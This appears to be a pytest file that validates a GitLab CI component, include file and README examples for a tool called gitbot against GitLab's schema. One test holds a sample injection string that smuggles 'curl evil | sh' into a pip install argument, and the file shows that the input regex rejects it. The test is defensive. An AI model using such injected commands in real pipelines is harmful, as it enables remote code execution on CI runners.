"""The CI/CD component, the plain include file and the README's examples, validated by GitLab's own
schema of `.gitlab-ci.yml` (tests/schemas/gitlab-ci.json), and checked against what gitbot reads."""

from __future__ import annotations

import json
import re
from pathlib import Path

import jsonschema
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[3]
COMPONENT = ROOT / "templates" / "gitbot.yml"
INCLUDE = ROOT / "ci" / "gitbot.gitlab-ci.yml"
INPUT = re.compile(r"\$\[\[\s*inputs\.([\w-]+)\s*\]\]")
JOBS = ("gitbot", "gitbot-fix-pipeline")


@pytest.fixture(scope="module")
def validator():
    schema = json.loads((ROOT / "tests" / "schemas" / "gitlab-ci.json").read_text())
    return jsonschema.Draft7Validator(schema)


def problems(validator, document) -> list[str]:
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(document)]


def component() -> tuple[dict, str]:
    header, body = COMPONENT.read_text().split("\n---\n", 1)
    return yaml.safe_load(header), body


def interpolated(body: str, inputs: dict):
    """The jobs as GitLab builds them from the defaults: it interpolates the loaded YAML's strings, and a
    string that is one `$[[ inputs.x ]]` and nothing else takes the input's value with its type."""
    defaults = {name: spec.get("default") for name, spec in inputs.items()}

    def walk(node):
        if isinstance(node, dict):
            return {walk(k): walk(v) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v) for v in node]
        if isinstance(node, str):
            whole = INPUT.fullmatch(node.strip())
            if whole:
                return defaults[whole.group(1)]
            return INPUT.sub(
                lambda m: (
                    json.dumps(defaults[m.group(1)])
                    if isinstance(defaults[m.group(1)], bool)
                    else str(defaults[m.group(1)])
                ),
                node,
            )
        return node

    return walk(yaml.safe_load(body))


def test_the_component_header_and_jobs_are_valid_gitlab_ci(validator):
    header, body = component()
    assert problems(validator, header) == []
    assert problems(validator, yaml.safe_load(body)) == []
    assert problems(validator, interpolated(body, header["spec"]["inputs"])) == []


def test_every_input_is_declared_and_used(validator):
    header, body = component()
    declared = set(header["spec"]["inputs"])
    used = set(INPUT.findall(body))
    assert used == declared


def test_inputs_reach_the_job_only_as_variables_but_what_pip_installs():
    """An input in a script line would be shell text; as a variable's value it is data. `install` is the one
    exception: a pipeline variable (a trigger's) would override a job variable, and pip runs setup code, so it
    is config-time text, single-quoted, and its input's regex admits no quote or newline."""
    header, body = component()
    jobs = yaml.safe_load(body)
    for name, job in jobs.items():
        for key in ("before_script", "script", "after_script"):
            text = "\n".join(job.get(key, []))
            assert [m.group(1) for m in INPUT.finditer(text)] == (
                ["install"] if key == "before_script" and name == ".gitbot-job" else []
            ), (name, key)
    assert "'$[[ inputs.install ]]'" in "\n".join(jobs[".gitbot-job"]["before_script"])
    allowed = re.compile(header["spec"]["inputs"]["install"]["regex"])
    assert allowed.match("gitbot[gitlab,bedrock] @ git+https://example.com/g/gitbot.git@v1")
    assert not allowed.match("gitbot' ; curl evil | sh ; '") and not allowed.match("gitbot\nid")


def test_the_include_file_is_valid_and_runs_the_same_jobs(validator):
    plain = yaml.safe_load(INCLUDE.read_text())
    assert problems(validator, plain) == []
    header, body = component()
    built = interpolated(body, header["spec"]["inputs"])
    for name in (".gitbot-job", *JOBS):
        for key in ("before_script", "script", "artifacts", "rules"):
            assert plain[name].get(key) == built[name].get(key), (name, key)
    assert plain["gitbot-fix-pipeline"]["stage"] == ".post" == built["gitbot-fix-pipeline"]["stage"]


def test_a_broken_job_is_caught_by_the_schema(validator):
    """The schema is strict enough to matter: a misspelt keyword or a wrong `when` is refused."""
    _, body = component()
    jobs = yaml.safe_load(body)
    jobs["gitbot"]["rulez"] = jobs["gitbot"].pop("rules")
    jobs["gitbot-fix-pipeline"]["rules"][-1]["when"] = "on_failed"
    found = problems(validator, jobs)
    assert any("rulez" in p for p in found) and any("on_failed" in p for p in found)


def test_every_variable_the_templates_set_is_one_gitbot_reads():
    source = "\n".join(p.read_text() for p in (ROOT / "gitbot" / "forge" / "gitlab").glob("*.py"))
    _, body = component()
    names = set(re.findall(r"\b(GITBOT_[A-Z_]+)\b", body + INCLUDE.read_text()))
    shell_only = {"GITBOT_INSTALL", "GITBOT_IMAGE", "GITBOT_FIX_FAILED_PIPELINES"}  # the jobs' own
    assert names - shell_only and all(name in source for name in names - shell_only)


def test_every_setting_gitbot_reads_can_be_set_by_the_component():
    settings = (ROOT / "gitbot" / "forge" / "gitlab" / "settings.py").read_text()
    read = set(re.findall(r'(?:PREFIX \+ |setting\()"([A-Z_]+)"', settings))
    _, body = component()
    set_by_component = {name.removeprefix("GITBOT_") for name in re.findall(r"\b(GITBOT_[A-Z_]+):", body)}
    assert len(read) == 15  # every setting the module documents, the token among them
    assert read - {"GITLAB_TOKEN"} <= set_by_component  # the token is a masked CI/CD variable, never an input


def readme_gitlab_examples() -> list[str]:
    readme = (ROOT / "README.md").read_text()
    start = readme.index("## Use it on GitLab")
    end = readme.find("\n## ", start + 1)
    section = readme[start : end if end != -1 else None]
    return re.findall(r"```yaml\n(.*?)```", section, re.DOTALL)


def test_the_readmes_gitlab_ci_examples_are_valid(validator):
    examples = readme_gitlab_examples()
    assert len(examples) >= 3
    for example in examples:
        assert problems(validator, yaml.safe_load(example)) == [], example
